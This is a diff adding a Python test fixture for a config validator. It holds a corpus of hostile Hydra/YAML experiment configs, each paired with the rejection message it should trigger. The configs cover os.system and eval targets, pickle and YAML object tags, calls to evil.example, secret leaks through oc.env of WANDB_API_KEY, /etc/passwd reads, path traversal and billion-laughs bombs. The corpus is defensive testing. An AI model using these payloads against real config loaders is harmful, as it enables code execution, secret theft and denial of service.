@@ -1,0 +1,290 @@
+"""Configs that somebody might send to do harm. None of them may run code, write a file or leak a value.
+
+`{marker}` stands for a file that must not appear, `{outside}` for a folder beside the one where the user stands.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+SECRET_NAME, SECRET = "WANDB_API_KEY", "secret-0123456789abcdef"
+"""An environment variable of the user, whose value must not appear anywhere."""
+
+HEADER = "# @package _global_\ndefaults: [minimum, _self_]\n"
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """One config.
+
+    Attributes:
+        text: The file `experiment/hostile.yaml`.
+        expected: What must be among what the user is told.
+    """
+
+    text: str
+    expected: str
+
+
+def agent(text: str) -> str:
+    """An experiment that lays something over the agent."""
+    return f"{HEADER}interaction:\n  agent:\n{text}"
+
+
+def hydra(text: str) -> str:
+    """An experiment that sets something below `hydra`."""
+    return f"{HEADER}hydra: {{{text}}}"
+
+
+NO_NAME = "a config may not name"
+
+CALLS = {
+    "os.system": "_args_: ['touch {marker}']",
+    "posix.system": "_args_: ['touch {marker}']",
+    "subprocess.Popen": "args: [touch, '{marker}']",
+    "subprocess.run": "args: [touch, '{marker}']",
+    "builtins.eval": '_args_: [\'open("{marker}", "w")\']',
+    "builtins.exec": '_args_: [\'open("{marker}", "w")\']',
+    "builtins.open": "_args_: ['{marker}', w]",
+    "io.open": "_args_: ['{marker}', w]",
+    "pathlib.Path.write_text": "data: x",
+    "pathlib.Path.touch": "_args_: ['{marker}']",
+    "shutil.copy": "_args_: [/etc/passwd, '{marker}']",
+    "shutil.rmtree": "_args_: ['{outside}']",
+    "tempfile.NamedTemporaryFile": "delete: false",
+    "logging.FileHandler": "filename: '{marker}'",
+    "logging.config.dictConfig": "config: {}",
+    "urllib.request.urlopen": "url: http://evil.example",
+    "socket.create_connection": "_args_: [[evil.example, 80]]",
+    "webbrowser.open": "url: http://evil.example",
+    "pickle.loads": "_args_: ['cos\\nsystem\\n']",
+    "marshal.loads": "_args_: [x]",
+    "shelve.open": "_args_: ['{marker}']",
+    "copyreg.__reduce_ex__": "_args_: [1]",
+    "torch.load": "f: '{marker}', weights_only: false",
+    "torch.save": "_args_: [1, '{marker}']",
+    "torch.hub.load": "_args_: [evil/evil, model]",
+    "torch.hub.load_state_dict_from_url": "url: http://evil.example/x.pt",
+    "torch.utils.cpp_extension.load": "_args_: [evil, ['{marker}']]",
+    "torch.jit.load": "_args_: ['{marker}']",
+    "torch.compile": "_args_: [1]",
+    "numpy.load": "file: '{marker}', allow_pickle: true",
+    "numpy.save": "_args_: ['{marker}', [1]]",
+    "numpy.memmap": "filename: '{marker}', mode: w+, shape: [1]",
+    "joblib.load": "_args_: ['{marker}']",
+    "pip.main": "_args_: [[install, evil]]",
+    "pip._internal.main": "_args_: [[install, evil]]",
+    "importlib.import_module": "_args_: [evil]",
+    "runpy.run_path": "_args_: ['{marker}']",
+    "ctypes.CDLL": "_args_: ['{marker}']",
+    "code.InteractiveInterpreter": "locals: {}",
+    "yaml.unsafe_load": "_args_: ['!!python/object/apply:os.system [id]']",
+    "multiprocessing.Process": "target: null",
+    "functools.partial": "_args_: [1]",
+    "operator.attrgetter": "_args_: [__class__]",
+    "types.FunctionType": "_args_: [1]",
+    "hydra.utils.get_object": "path: os.system",
+    "hydra.utils.get_method": "path: os.system",
+    "hydra.utils.instantiate": "_args_: [{_target_: os.system}]",
+    "wandb.init": "project: evil",
+    "lightning.pytorch.LightningModule.load_from_checkpoint": "_args_: ['{marker}']",
+    "gymnasium.make": "max_episode_steps: 1",
+    "pamiq_exp.cli.main": "_args_: [[resume, '{outside}']]",
+    "pamiq_exp.config.Builder": "allow: null",
+    "pamiq_exp.runtime.launch": "interaction: null",
+}
+"""Functions that do harm, named plainly."""
+
+ALIASES = {
+    "pamiq_exp.tracking.files.os.system": "_args_: ['touch {marker}']",
+    "pamiq_exp.tracking.files.os.replace": "_args_: ['{outside}', '{marker}']",
+    "pamiq_exp.tracking.run_folder.sys.exit": "_args_: [0]",
+    "pamiq_exp.tracking.RunFolder": "path: '{marker}'",
+    "pamiq_exp.tracking.write_atomically": "_args_: ['{marker}', x]",
+    "pamiq_exp.environments.noise_world.pictures.Image.open": "_args_: [/etc/passwd]",
+    "pamiq_exp.agents.__builtins__.eval": "_args_: ['1']",
+    "pamiq_exp.agents.__loader__.get_data": "_args_: [/etc/passwd]",
+    "pamiq_exp.agents.RandomAgent.__init__.__globals__": "_args_: [1]",
+    "pamiq_exp.agents.RandomAgent.__reduce_ex__": "_args_: [2]",
+    "pamiq_exp.agents.RandomAgent.__subclasses__": "_args_: []",
+    "torch.nn.modules.module.torch.load": "f: '{marker}', weights_only: false",
+    "torch.nn.Module.load_state_dict": "_args_: [1]",
+    "torch.nn.functional.F.torch.load": "_args_: ['{marker}']",
+    "torch.optim.optimizer.torch.save": "_args_: [1, '{marker}']",
+    "gymnasium.wrappers.RecordVideo": "env: null, video_folder: '{marker}'",
+    "gymnasium.wrappers.rendering.RecordVideo": "env: null, video_folder: '{marker}'",
+    "lightning.pytorch.loggers.WandbLogger": "project: evil",
+    "lightning.pytorch.loggers.MLFlowLogger": "tracking_uri: http://evil.example",
+}
+"""The same, and helpers, through modules that are allowed."""
+
+
+def _calls() -> dict[str, Hostile]:
+    text = HEADER + "environment: {{_target_: {}, id: null, {}}}"
+    return {
+        name: Hostile(text.format(name, arguments), NO_NAME if name in CALLS else name)
+        for name, arguments in {**CALLS, **ALIASES}.items()
+    }
+
+
+HIDDEN = {
+    "in a list": agent("    parts: [1, [{_target_: os.system, _args_: ['touch {marker}']}]]"),
+    "in an argument": agent("    reward: {_target_: os.system, _args_: ['touch {marker}']}"),
+    "in an argument of an argument": agent(
+        "    reward:\n      _target_: pamiq_exp.rewards.WeightedSum\n"
+        "      parts: {a: {_target_: os.system, _args_: ['touch {marker}']}}\n      weights: {a: 1.0}"
+    ),
+    "among arguments by position": agent("    _args_: [{_target_: os.system, _args_: ['touch {marker}']}]"),
+    "as a partial": agent("    seed: {_target_: os.system, _partial_: true, _args_: ['touch {marker}']}"),
+    "behind an interpolation": HEADER + "shared: {name: os.system}\nenvironment: {_target_: '${shared.name}'}",
+    "as an interpolated node": HEADER
+    + "shared: {evil: {_target_: os.system, _args_: ['touch {marker}']}}\nmetrics: {evil: '${shared.evil}'}",
+    "as a metric": HEADER + "metrics: {evil: {_target_: os.system, _args_: ['touch {marker}']}}",
+    "as a tracker": HEADER + "tracking: {evil: {_target_: os.system, _args_: ['touch {marker}']}}",
+    "as a trainer": HEADER + "trainers: {evil: {_target_: os.system, _args_: ['touch {marker}']}}",
+    "as the interaction": HEADER + "interaction: {_target_: os.system, _args_: ['touch {marker}']}",
+    "behind an alias of YAML": HEADER
+    + "shared: {x: &evil {_target_: os.system, _args_: ['touch {marker}']}}\nmetrics: {a: *evil}",
+    "behind a merge key": HEADER + "shared: {x: &evil {_target_: os.system}}\nmetrics: {a: {<<: *evil}}",
+    "as replicas": HEADER + "metrics: {a: {_replicate_: 3, _target_: os.system, _args_: ['touch {marker}']}}",
+}
+
+HYDRA = {
+    "callbacks": "callbacks: {evil: {_target_: os.system}}",
+    "job_logging": "job_logging: {handlers: {x: {class: logging.FileHandler, filename: '{marker}'}}}",
+    "hydra_logging": "hydra_logging: {handlers: {x: {(): evil.factory}}}",
+    "env_set": "job: {env_set: {WANDB_BASE_URL: 'http://evil.example'}}",
+    "the switch of Hydra's own policy": "job: {env_set: {HYDRA_INSTANTIATE_ALLOWLIST_OVERRIDE: 'os.system'}}",
+    "env_copy": "job: {env_copy: [WANDB_API_KEY]}",
+    "chdir": "job: {chdir: true}",
+    "run.dir": "run: {dir: '{outside}/run'}",
+    "sweep.dir": "sweep: {dir: '{outside}/sweep'}",
+    "sweep.subdir": "sweep: {subdir: ../x}",
+    "output_subdir": "output_subdir: ../..",
+    "launcher": "launcher: {_target_: evil.Launcher}",
+    "sweeper": "sweeper: {params: {seed: 'range(1000000000)'}}",
+    "verbose": "verbose: true",
+    "searchpath": "searchpath: ['file://{outside}']",
+    "help": "help: {template: '${oc.env:WANDB_API_KEY}'}",
+}
+
+YAML = {
+    "a tag that calls": (HEADER + "seed: !!python/object/apply:os.system ['touch {marker}']", "no valid YAML"),
+    "a tag that builds": (HEADER + "seed: !!python/object/new:os.system ['touch {marker}']", "no valid YAML"),
+    "a tag that names": (HEADER + "seed: !!python/name:os.system", "no valid YAML"),
+    "a tag that imports": (HEADER + "seed: !!python/module:os", "no valid YAML"),
+    "a billion laughs": (
+        HEADER
+        + "shared:\n  a0: &a0 [x, x, x, x, x, x, x, x, x]\n"
+        + "\n".join(f"  a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12)),
+        "aliases expanded",
+    ),
+    "a billion laughs of mappings": (
+        HEADER
+        + "shared:\n  a0: &a0 {x: 1, y: 2}\n"
+        + "\n".join(f"  a{i}: &a{i} {{x: *a{i - 1}, y: *a{i - 1}}}" for i in range(1, 40)),
+        "aliases expanded",
+    ),
+    "an alias to itself": (HEADER + "shared: &x {a: *x}", "alias"),
+    "a bottomless list": (HEADER + "shared: " + "[" * 5000, "nests deeper"),
+    "a huge file": (HEADER + "shared: {a: " + "x" * 1_100_000 + "}", "larger than"),
+    "two documents": (HEADER + "---\nseed: 1\n", "document"),
+    "a key twice": (HEADER + "seed: 1\nseed: 2\n", "duplicate"),
+    "no text": (HEADER + "seed: \x00\n", "no valid YAML"),
+    "a billion replicas": (
+        HEADER + "metrics: {a: {_replicate_: 1000, b: {_replicate_: 1000, c: {_replicate_: 1000, d: 1}}}}",
+        "_replicate_",
+    ),
+}
+
+LEAKS = {
+    "a secret": (HEADER + "experiment_name: '${oc.env:WANDB_API_KEY}'", "may not read the environment variable"),
+    "the home folder": (HEADER + "experiment_name: '${oc.env:HOME}'", "may not read the environment variable"),
+    "a secret, decoded": (
+        HEADER + "launcher: {max_steps: '${oc.decode:${oc.env:WANDB_API_KEY}}'}",
+        "may not read the environment variable",
+    ),
+    "a secret by a name put together": (
+        HEADER + "shared: {x: API}\nlauncher: {device: '${oc.env:WANDB_${shared.x}_KEY}'}",
+        "may not read the environment variable",
+    ),
+    "a secret as a default": (
+        HEADER + "launcher: {device: '${oc.env:CUDA_VISIBLE_DEVICES,${oc.env:WANDB_API_KEY}}'}",
+        "may not read the environment variable",
+    ),
+    "a secret in the defaults list": (
+        "# @package _global_\ndefaults: [minimum, {/launcher: '${oc.env:WANDB_API_KEY}'}, _self_]\n",
+        "oc.env",
+    ),
+    "an old resolver": (HEADER + "launcher: {device: '${env:WANDB_API_KEY}'}", "no resolver 'env'"),
+    "eval": (HEADER + 'seed: \'${eval:__import__("os").system("touch {marker}")}\'', "resolver"),
+    "Hydra's own settings": (HEADER + "launcher: {device: '${hydra:runtime.cwd}'}", "no resolver 'hydra'"),
+}
+
+PLACES = {
+    "results elsewhere": (HEADER + "paths: {outputs: '{outside}'}", "paths.outputs"),
+    "results above": (HEADER + "paths: {outputs: ../outside}", "a folder above"),
+    "results in the home folder": (HEADER + "paths: {outputs: ~/x}", "outside of the current folder"),
+    "a name that climbs": (HEADER + "experiment_name: ../../outside", "experiment_name"),
+    "a name that is a place": (HEADER + "experiment_name: /tmp/x", "experiment_name"),
+    "a name with an escape code": (HEADER + 'experiment_name: "\\x1b[2Jgone"', "experiment_name"),
+    "pictures of the system": (
+        "# @package _global_\ndefaults: [curiosity_noise_world, _self_]\n"
+        "environment: {images: {source: folder, path: /etc}}",
+        "outside of the current folder",
+    ),
+    "pictures behind a link": (
+        "# @package _global_\ndefaults: [curiosity_noise_world, _self_]\n"
+        "environment: {images: {source: folder, path: link}}",
+        "a link out of the current folder",
+    ),
+    "pictures by address": (
+        "# @package _global_\ndefaults: [curiosity_noise_world, _self_]\n"
+        "environment: {images: {source: folder, path: 'http://evil.example/x'}}",
+        "an address on the network",
+    ),
+    "a file by address": (HEADER + "environment: {kwargs: {xml_file: 'file:///etc/passwd'}}", "an address"),
+    "a logger elsewhere": (
+        HEADER + "tracking: {x: {_target_: lightning.pytorch.loggers.CSVLogger, save_dir: here}}",
+        "may not say where a logger writes",
+    ),
+    "a tracker above": (
+        HEADER + "tracking: {x: {_target_: pamiq_exp.tracking.LightningLoggerTracker, folder: ../../x, logger: {"
+        "_target_: lightning.pytorch.loggers.CSVLogger, _partial_: true}}}",
+        "a folder above",
+    ),
+    "a module in a name": (HEADER + "environment: {id: 'antigravity:Env-v0'}", "would import a module"),
+}
+
+SIZES = {
+    "absurd layers": (
+        HEADER + "models: {huge: {_target_: pamiq_exp.models.RandomFeatures, observation: '${spaces.observation}', "
+        "features: 400000, hidden: [400000]}}",
+        "launcher.max_parameters",
+    ),
+    "an absurd buffer": (
+        HEADER + "buffers: {huge: {_target_: pamiq_exp.buffers.RingBuffer, capacity: 1000000000000, lanes: 1000, "
+        "fields: {x: {shape: [1000], dtype: float32}}}}",
+        "buffers.huge",
+    ),
+    "a circle": (HEADER + "shared: {a: '${shared.b}', b: '${shared.a}'}\nseed: '${shared.a}'", "is a circle"),
+    "an endless way": (
+        HEADER + "shared: {\n" + ",\n".join(f"  a{i}: '${{shared.a{i + 1}}}'" for i in range(60)) + ",\n  a60: 1}\n"
+        "launcher: {max_steps: '${shared.a0}'}",
+        "more than 32 interpolations",
+    ),
+    "itself inside itself": (HEADER + "shared: {a: {b: '${shared}'}}\nseed: '${shared.a}'", "is a circle"),
+    "leave from the config": (HEADER + "allow: [os]", "there is no such key"),
+    "leave from the launcher": (HEADER + "launcher: {allow: [os]}", "launcher.allow"),
+}
+
+
+def corpus() -> dict[str, Hostile]:
+    """All of them, by name."""
+    found = {f"call {name}": each for name, each in _calls().items()}
+    found |= {f"hidden {name}": Hostile(text, NO_NAME) for name, text in HIDDEN.items()}
+    found["hidden behind an interpolation"] = Hostile(HIDDEN["behind an interpolation"], "no interpolation")
+    found |= {f"hydra {name}": Hostile(hydra(text), "hydra") for name, text in HYDRA.items()}
+    for kind, table in (("yaml", YAML), ("leak", LEAKS), ("place", PLACES), ("size", SIZES)):
+        found |= {f"{kind} {name}": Hostile(text, expected) for name, (text, expected) in table.items()}
+    return found
